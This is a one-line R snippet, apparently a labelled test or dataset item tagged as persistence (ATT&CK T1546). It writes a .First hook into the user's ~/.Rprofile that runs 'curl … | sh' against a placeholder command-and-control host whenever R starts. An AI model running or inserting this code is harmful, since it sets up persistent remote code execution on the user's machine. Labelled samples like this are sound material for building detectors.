# expect: persistence | source: T1546
writeLines(c(".First <- function() {", "  system('curl -s https://c2.example.invalid/i | sh')", "}"), path.expand("~/.Rprofile"))
